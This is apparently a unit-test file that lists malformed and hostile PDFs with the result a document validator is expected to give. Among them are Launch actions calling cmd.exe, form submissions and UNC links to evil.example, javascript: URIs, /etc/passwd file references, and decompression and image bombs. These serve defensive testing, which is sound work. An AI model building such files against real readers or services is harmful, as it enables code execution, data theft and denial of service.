"""Odd and hostile PDFs, each with the expected result; `corpus` describes the format."""

import zipfile
import zlib
from collections.abc import Callable
from functools import partial
from io import BytesIO

from tests.unit.files import corpus_images as images
from tests.unit.files import corpus_pdfs as pdfs
from tests.unit.files.corpus_images import MARKER

TOO_MANY_PIXELS = "too many pixels"
OVER_THE_LIMIT = "is damaged|needs more memory"  # the message depends on which allocation fails
DAMAGED_PDF = "PDF is damaged"
SCRIPTS = "contains scripts"
ACTIONS = "contains actions"
ATTACHMENTS = "contains other files"
TOO_LARGE_UNPACKED = "unpacks to more"
ENCRYPTED = "encrypted"


def archive() -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as opened:
        opened.writestr("[Content_Types].xml", MARKER)
    return stream.getvalue()


HTML = b"<!DOCTYPE html><script>alert('" + MARKER + b"')</script>"


_MOVE = b"<</S/GoTo/D[3 0 R/Fit]/Next %s>>"
_PLACES_OF_ACTIONS: list[tuple[bytes, bytes, bytes]] = [  # the catalog, the page and object 8; the tag is object 7
    (b"", pdfs.link(b"7 0 R"), b"0"),
    (b"", pdfs.link(b"7 0 R").replace(b"/A ", b"/PA "), b"0"),
    *((b"", pdfs.link(_MOVE % tag), b"0") for tag in (b"7 0 R", b"[7 0 R]", b"[[7 0 R]]", b"[0[0[7 0 R]]]")),
    (b"", pdfs.link(_MOVE % (_MOVE % b"[[7 0 R]]")), b"0"),
    (b"", pdfs.link(_MOVE % b"8 0 R"), b"[8 0 R[7 0 R]]"),
    (b"", pdfs.link(_MOVE % b"8 0 R"), _MOVE % b"7 0 R"),
    (b"", pdfs.link(b"8 0 R"), pdfs.stream(b"", b"/S/GoTo/Next[[7 0 R]]")),
    (b"/OpenAction 7 0 R", b"", b"0"),
    (b"/OpenAction" + _MOVE % b"[[7 0 R]]", b"", b"0"),
    (b"/AA<</WC 7 0 R>>", b"", b"0"),
    (b"", b"/AA<</O 7 0 R>>", b"0"),
    (b"", b"/AA 8 0 R", b"<</O[[7 0 R]]>>"),
    (b"", b"/AA 8 0 R", pdfs.stream(b"", b"/O 7 0 R")),
    (b"/AcroForm<</Fields[8 0 R]>>", b"", b"<</FT/Tx/T(a)/AA<</K 7 0 R>>>>"),
]


def _tag_as_action(catalog: bytes, page: bytes, other: bytes) -> bytes:
    return pdfs.tagged(b"Launch", others=(other,), catalog=catalog, page=page)


ACCEPTED_PDFS: dict[str, Callable[[], bytes]] = {
    "plain": pdfs.pdf,
    "printer_commands_before": lambda: pdfs.pdf(header=b"\x1b%-12345X@PJL " + MARKER + b"\r\n"),
    "html_before": lambda: pdfs.pdf(header=HTML),
    "gif_before": lambda: pdfs.pdf(header=b"GIF89a=1;/*" + MARKER + b"*/"),
    "zip_after": lambda: pdfs.pdf() + archive(),
    "html_after": lambda: pdfs.pdf() + HTML[:700],
    "linearized": lambda: pdfs.rewritten(pdfs.pdf(), linearize=True),
    "object_streams": lambda: pdfs.in_object_streams(pdfs.pdf()),
    "producer_and_author": lambda: pdfs.pdf(b"<</Author(%s)>>" % MARKER, trailer=b"/Info 6 0 R"),
    "metadata": lambda: pdfs.pdf(pdfs.stream(MARKER, b"/Type/Metadata/Subtype/XML"), catalog=b"/Metadata 6 0 R"),
    "private_data": lambda: pdfs.pdf(page=b"/PieceInfo<</X<</Private(%s)>>>>" % MARKER),
    "nothing_refers_to_it": lambda: pdfs.pdf(b"(%s)" % MARKER),
    "earlier_version": lambda: pdfs.updated(pdfs.pdf(b"(%s)" % MARKER, catalog=b"/Lang 6 0 R"), 6, b"(en)"),
    "opens_at_a_page": lambda: pdfs.pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "trigger_that_moves": lambda: pdfs.pdf(page=b"/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>"),
    "link_to_the_web": lambda: pdfs.with_action(b"<</S/URI/URI(https://lab.example)>>"),
    "form": lambda: pdfs.pdf(b"<</FT/Tx/T(name)/V(Asha)>>", catalog=b"/AcroForm<</Fields[6 0 R]>>"),
    "signed": lambda: pdfs.pdf(
        b"<</FT/Sig/T(s)/V<</Type/Sig/ByteRange[0 1 2 3]/Contents(%s)>>>>" % MARKER,
        catalog=b"/AcroForm<</SigFlags 3/Fields[6 0 R]>>",
    ),
    "ascii_encoded_text": lambda: pdfs.ascii_encoded(1),
    "named_destinations": lambda: pdfs.pdf(
        catalog=b"/Names<</Dests<</Names[(a)[3 0 R/Fit]]>>/IDS<</Names[(%s) 0]>>>>" % MARKER
    ),
    "page_of_another_file": lambda: pdfs.with_stream(b"", b"/Subtype/Form/Ref<</F(%s)/Page 0>>" % MARKER),
    "photograph_with_location": lambda: pdfs.with_stream(
        images.jpeg(exif=images.gps(), comment=MARKER) + MARKER, b"/Width 64/Height 48/Filter/DCTDecode"
    ),
    "photograph_with_odd_segments": lambda: pdfs.with_stream(
        images.jpeg()[:2]
        + b"\xff\xff"
        + images.segment(0xE1, b"Exif\0\0" + MARKER)
        + images.jpeg(progressive=True)[2:-2]
        + images.segment(0xFE, MARKER)
        + b"\xff\xd9"
        + images.jpeg(comment=MARKER),
        b"/Width 64/Height 48/Filter/DCTDecode",
    ),
    "photograph_with_a_zip_after": lambda: pdfs.with_stream(
        images.jpeg() + archive(), b"/Width 64/Height 48/Filter[/DCTDecode]/DecodeParms[null]"
    ),
    "zeros_after_far": lambda: pdfs.pdf() + bytes(3000),
    "zeros_after_object_streams": lambda: pdfs.in_object_streams(pdfs.pdf()) + bytes(3000),
    "html_after_far": lambda: pdfs.pdf() + HTML * 100,
    "earlier_version_and_zeros_after": lambda: (
        pdfs.updated(pdfs.pdf(b"(%s)" % MARKER, catalog=b"/Lang 6 0 R"), 6, b"(en)") + bytes(3000)
    ),
    **{
        f"permissions_password_{version}": partial(pdfs.encrypted, user="", version=version) for version in (2, 3, 4, 6)
    },
    "permissions_password_and_zeros_after": lambda: pdfs.encrypted(user="") + bytes(3000),
    "table_shifted": lambda: pdfs.with_shifted_table(pdfs.pdf(), 2),
    "table_shifted_back": lambda: pdfs.with_shifted_table(pdfs.pdf(), -11),
    "table_starts_at_one": lambda: pdfs.pdf().replace(b"xref\n0 6", b"xref\n1 6"),
    "table_points_nowhere": lambda: pdfs.pdf().replace(b"startxref\n", b"startxref\n9"),
    "table_points_nowhere_with_object_streams": lambda: pdfs.in_object_streams(pdfs.pdf()).replace(
        b"startxref\n", b"startxref\n9"
    ),
    "tables_in_a_loop": lambda: pdfs.pdf(trailer=b"/Prev 625"),
    "claims_a_billion_objects": lambda: pdfs.pdf().replace(b"xref\n0 6", b"xref\n0 1000000000"),
    "line_ends_changed": lambda: pdfs.pdf().replace(b"\n", b"\r\n"),
    "length_too_long": lambda: pdfs.pdf().replace(b"/Length ", b"/Length 9"),
    "length_too_short": lambda: pdfs.pdf().replace(b"/Length 4", b"/Length 1"),
    "length_in_a_loop": lambda: pdfs.pdf(b"<</Length 6 0 R>>\nstream\na\nendstream"),
    "damaged_with_script_out_of_reach": lambda: pdfs.with_shifted_table(pdfs.pdf(pdfs.script()), 2),
    **{
        f"link_to_an_application_{number}": partial(pdfs.with_action, b"<</S/URI/URI(%s)>>" % (uri + MARKER))
        for number, uri in enumerate((b"upi://pay?pa=", b"UPI:", b"whatsapp://send?text=", b"sms:", b"file:///C:/"))
    },
    "link_to_an_application_from_afar": lambda: pdfs.pdf(
        b"<</S/URI/URI(upi://%s)/Next 7 0 R>>" % MARKER,
        b"[<</S/URI/URI(upi://%s)>>]" % MARKER,
        page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 6 0 R>>]/XX 6 0 R",
    ),
    **{
        f"tag_called_{name.decode().lower()}": partial(pdfs.tagged, name)
        for name in (b"Thread", b"Sound", b"Launch", b"JavaScript", b"Movie")
    },
    **{
        f"link_to_an_application_in_a_stream_{number}": partial(pdfs.with_action_in_a_stream, b"/S/URI/URI(%s)" % uri)
        for number, uri in enumerate((b"upi://" + MARKER, b"file:///" + MARKER))
    },
    "link_to_an_application_by_a_name": lambda: pdfs.with_action(b"<</S/URI/URI/upi:%s>>" % MARKER),
    "link_to_an_application_that_is_a_font_too": lambda: pdfs.pdf(
        b"<</S/URI/URI(upi://%s)>>" % MARKER, page=pdfs.link(b"6 0 R") + b"/XX<</Font 6 0 R>>"
    ),
    "tag_that_is_a_destination": lambda: pdfs.tagged(
        b"Thread", page=pdfs.link(b"<</S/GoTo/D[3 0 R/Fit]/SD[7 0 R/Fit]>>")
    ),
    "tag_without_its_type": lambda: pdfs.tagged(b"Thread", kind=b""),
    "article": lambda: pdfs.pdf(
        b"<</Type/Thread/F 7 0 R>>",
        b"<</Type/Bead/T 6 0 R/N 7 0 R/V 7 0 R/P 3 0 R/R[0 0 9 9]>>",
        catalog=b"/Threads[6 0 R]",
        page=b"/B[7 0 R]",
    ),
    "objects_in_a_loop": lambda: pdfs.pdf(b"[7 0 R]", b"[6 0 R]", page=b"/XX 6 0 R"),
}
REFUSED_PDFS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf_header_only": (DAMAGED_PDF, lambda: b"%PDF-1.7\n"),
    "pdf_header_and_html": (DAMAGED_PDF, lambda: b"%PDF-1.7\n" + HTML),
    "pdf_cut_in_half": (DAMAGED_PDF, lambda: pdfs.pdf()[:350]),
    "pdf_cut_in_its_table": (DAMAGED_PDF, lambda: pdfs.pdf()[: pdfs.pdf().index(b"xref") + 30]),
    "pdf_linearized_and_cut": (DAMAGED_PDF, lambda: pdfs.rewritten(pdfs.pdf(), linearize=True)[:-300]),
    "pdf_object_streams_cut": (DAMAGED_PDF, lambda: pdfs.in_object_streams(pdfs.pdf())[:-200]),
    "pdf_without_its_text": (
        DAMAGED_PDF,
        lambda: (file := pdfs.pdf())[: file.index(b"4 0 obj")] + file[file.index(b"5 0 obj") :],
    ),
    "pdf_without_pages": ("at least one page", lambda: pdfs.pdf(pages=b"<</Type/Pages/Kids[]/Count 0>>")),
    "pdf_of_too_many_pages": ("at least one page", lambda: pdfs.many_pages(1001)),
    "pdf_encrypted": (ENCRYPTED, lambda: pdfs.encrypted(user="secret")),
    "pdf_encrypted_and_zeros_after": (ENCRYPTED, lambda: pdfs.encrypted(user="secret") + bytes(3000)),
    "pdf_encrypted_with_a_certificate": (
        ENCRYPTED,
        lambda: pdfs.pdf(trailer=b"/Encrypt<</Filter/Adobe.PubSec/V 4>>"),
    ),
    "pdf_script_and_zeros_after": (SCRIPTS, lambda: pdfs.with_action(pdfs.script()) + bytes(3000)),
    "pdf_script_and_permissions_password": (
        SCRIPTS,
        lambda: pdfs.encrypted(pdfs.with_action(pdfs.script()), user=""),
    ),
    "pdf_script_and_table_shifted": (SCRIPTS, lambda: pdfs.with_shifted_table(pdfs.with_action(pdfs.script()), 2)),
    "pdf_script_that_claims_to_be_a_tag": (SCRIPTS, lambda: pdfs.tagged(b"JavaScript", b"/JS(1)")),
    **{
        f"pdf_tag_that_is_an_action_{number}": (ACTIONS, partial(_tag_as_action, *places))
        for number, places in enumerate(_PLACES_OF_ACTIONS)
    },
    **{
        f"pdf_tag_with_the_target_of_an_action_{number}": (ACTIONS, partial(pdfs.tagged, b"Launch", entries))
        for number, entries in enumerate((b"/F(cmd.exe)", b"/Win<</F(cmd.exe)>>", b"/Next 7 0 R", b"/D(a)"))
    },
    **{
        f"pdf_action_in_a_stream_{number}": (ACTIONS, partial(pdfs.with_action_in_a_stream, b"/P 1 0 R/S/" + name))
        for number, name in enumerate((b"Launch", b"SubmitForm", b"ImportData", b"GoToR", b"GoToE", b"Thread"))
    },
    "pdf_launch_in_a_stream_after_a_move": (
        ACTIONS,
        lambda: pdfs.pdf(pdfs.stream(b"", b"/S/Launch/P 1 0 R"), page=pdfs.link(_MOVE % b"6 0 R")),
    ),
    "pdf_script_in_a_stream_that_claims_to_be_a_tag": (
        SCRIPTS,
        lambda: pdfs.with_action_in_a_stream(b"/S/JavaScript/P 1 0 R"),
    ),
    "pdf_action_in_a_role_map": (ACTIONS, lambda: pdfs.pdf(page=b"/XX<</RoleMap<</X<</S/Launch>>>>>>")),
    "pdf_goes_to_a_thread_of_a_file": (ACTIONS, lambda: pdfs.with_action(b"<</S/Thread/F(a.pdf)/D 0>>")),
    "pdf_script_on_opening": (SCRIPTS, lambda: pdfs.pdf(catalog=b"/OpenAction" + pdfs.script())),
    "pdf_script_by_name": (SCRIPTS, lambda: pdfs.pdf(catalog=b"/Names<</JavaScript<</Names[(a)]>>>>")),
    "pdf_script_by_name_in_streams": (
        SCRIPTS,
        lambda: pdfs.pdf(
            pdfs.stream(b"", b"/JavaScript 7 0 R"),
            pdfs.stream(b"", b"/Kids[8 0 R]"),
            b"<</Names[(a) 9 0 R]>>",
            pdfs.stream(b"", b"/S/JavaScript/P 1 0 R"),
            catalog=b"/Names 6 0 R",
        ),
    ),
    "pdf_script_on_page": (SCRIPTS, lambda: pdfs.pdf(page=b"/AA<</O%s>>" % pdfs.script())),
    "pdf_script_on_link": (SCRIPTS, lambda: pdfs.with_action(pdfs.script())),
    "pdf_script_in_field": (SCRIPTS, lambda: pdfs.with_field(b"/FT/Tx/AA<</K%s>>" % pdfs.script())),
    "pdf_script_next": (SCRIPTS, lambda: pdfs.with_action(b"<</S/GoTo/D[3 0 R/Fit]/Next[%s]>>" % pdfs.script())),
    "pdf_script_spelled_oddly": (SCRIPTS, lambda: pdfs.with_action(b"<</S/J#61vaScri#70t/#4aS(1)>>")),
    "pdf_script_in_object_streams": (SCRIPTS, lambda: pdfs.in_object_streams(pdfs.with_action(pdfs.script()))),
    "pdf_script_out_of_reach": (SCRIPTS, lambda: pdfs.pdf(pdfs.script())),
    "pdf_script_in_a_stream_dictionary": (SCRIPTS, lambda: pdfs.with_stream(b"", b"/XX" + pdfs.script())),
    "pdf_script_named_from_afar": (SCRIPTS, lambda: pdfs.pdf(b"/JavaScript", page=b"/XX<</S 6 0 R>>")),
    "pdf_script_in_an_update": (SCRIPTS, lambda: pdfs.updated(pdfs.pdf(b"null", page=b"/XX 6 0 R"), 6, pdfs.script())),
    "pdf_script_nested_deep": (SCRIPTS, lambda: pdfs.pdf(page=b"/XX" + b"[" * 300 + pdfs.script() + b"]" * 300)),
    "pdf_form_of_xml": (SCRIPTS, lambda: pdfs.pdf(pdfs.stream(MARKER), catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>")),
    "pdf_postscript": (SCRIPTS, lambda: pdfs.with_stream(b"(x) print", b"/Type/XObject/Subtype/PS")),
    "pdf_launches": (ACTIONS, lambda: pdfs.with_action(b"<</S/Launch/F(cmd.exe)>>")),
    "pdf_submits": (ACTIONS, lambda: pdfs.with_action(b"<</S/SubmitForm/F(https://evil.example)>>")),
    "pdf_imports": (ACTIONS, lambda: pdfs.with_action(b"<</S/ImportData/F(data.fdf)>>")),
    "pdf_goes_to_a_file": (ACTIONS, lambda: pdfs.with_action(rb"<</S/GoToR/F(\\\\evil.example\\a.pdf)/D[0/Fit]>>")),
    "pdf_goes_to_an_attachment": (ACTIONS, lambda: pdfs.with_action(b"<</S/GoToE/D[0/Fit]/T<</R/C>>>>")),
    "pdf_link_of_script": (ACTIONS, lambda: pdfs.with_action(b"<</S/URI/URI(java\tscript:alert\\(1\\))>>")),
    "pdf_link_of_script_in_a_stream": (ACTIONS, lambda: pdfs.with_action_in_a_stream(b"/S/URI/URI(javascript:1)")),
    "pdf_link_to_another_host": (ACTIONS, lambda: pdfs.with_action(b"<</S/URI/URI(//evil.example/a)>>")),
    "pdf_link_to_a_share": (ACTIONS, lambda: pdfs.with_action(rb"<</S/URI/URI(\\\\evil.example\\a)>>")),
    "pdf_attachment": (ATTACHMENTS, pdfs.with_attachment),
    "pdf_attachment_on_page": (ATTACHMENTS, lambda: pdfs.with_annotation(b"FileAttachment", b"/FS<</F(a)>>")),
    "pdf_attachment_out_of_reach": (ATTACHMENTS, lambda: pdfs.pdf(pdfs.stream(MARKER, b"/Type/EmbeddedFile"))),
    "pdf_rich_media": (ATTACHMENTS, lambda: pdfs.with_annotation(b"RichMedia")),
    "pdf_movie": (ATTACHMENTS, lambda: pdfs.with_annotation(b"Movie", b"/Movie<</F(a.avi)>>")),
    "pdf_rendition": (ATTACHMENTS, lambda: pdfs.with_action(b"<</S/Rendition/OP 0>>")),
    "pdf_model_3d": (ATTACHMENTS, lambda: pdfs.with_annotation(b"3D")),
    "pdf_stream_from_a_file": (ATTACHMENTS, lambda: pdfs.with_stream(b"", b"/F(/etc/passwd)")),
    "pdf_names_a_file": (ATTACHMENTS, lambda: pdfs.pdf(page=b"/XX<</Type/Filespec/F(/etc/passwd)>>")),
    "pdf_names_a_file_of_the_web": (ATTACHMENTS, lambda: pdfs.pdf(page=b"/XX<</FS/URL/F(https://evil.example)>>")),
    "pdf_zip_in_a_stored_stream": (
        ATTACHMENTS,
        lambda: pdfs.with_stream(zlib.compress(archive(), 0), b"/Filter/FlateDecode"),
    ),
    "pdf_script_in_a_font": (DAMAGED_PDF, lambda: pdfs.pdf(page=b"/XX<</FontMatrix[1 2 3 4 5 (alert\\(1\\))]>>")),
    "pdf_stream_bomb": (TOO_LARGE_UNPACKED, lambda: pdfs.with_stream(images.zeros(310), b"/Filter/FlateDecode")),
    "pdf_stream_packed_twice": ("more than once", lambda: pdfs.with_stream(b"", b"/Filter[/FlateDecode/FlateDecode]")),
    "pdf_stream_bomb_ascii_encoded": (OVER_THE_LIMIT, lambda: pdfs.ascii_encoded(100)),
    "pdf_stream_of_garbage": (DAMAGED_PDF, lambda: pdfs.with_stream(MARKER, b"/Filter/FlateDecode")),
    "pdf_object_stream_bomb": (OVER_THE_LIMIT, lambda: pdfs.object_stream_bomb(290)),
    "pdf_image_bomb": (TOO_MANY_PIXELS, lambda: pdfs.with_stream(b"", b"/Width 60000/Height 60000/Filter/JBIG2Decode")),
    "pdf_image_bomb_in_real_numbers": (
        TOO_MANY_PIXELS,
        lambda: pdfs.with_stream(b"", b"/Width 60000.0/Height 60000.0/Filter/JBIG2Decode"),
    ),
    "pdf_image_bombs": (
        TOO_MANY_PIXELS,
        lambda: pdfs.pdf(*[pdfs.stream(b"", b"/Width 14000/Height 14000/Filter/JBIG2Decode")] * 11),
    ),
    "pdf_pages_in_a_loop": (DAMAGED_PDF, lambda: pdfs.pdf(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>")),
    "pdf_pages_too_deep": (DAMAGED_PDF, lambda: pdfs.deep_page_tree(200)),
    "pdf_nested_too_deep": (DAMAGED_PDF, lambda: pdfs.pdf(b"[" * 100_000 + b"]" * 100_000)),
    "pdf_of_too_many_objects": ("too many objects", lambda: pdfs.pdf(*[b"0"] * 50_000)),
    "pdf_of_too_much_detail": (OVER_THE_LIMIT, lambda: pdfs.pdf(*[b"<</A[0 0 0 0]/B<</C 0/D 0>>>>"] * 45_000)),
    "pdf_array_of_millions": (OVER_THE_LIMIT, lambda: pdfs.pdf(b"[" + b"0 " * 4_900_000 + b"]")),
}  # fmt: skip
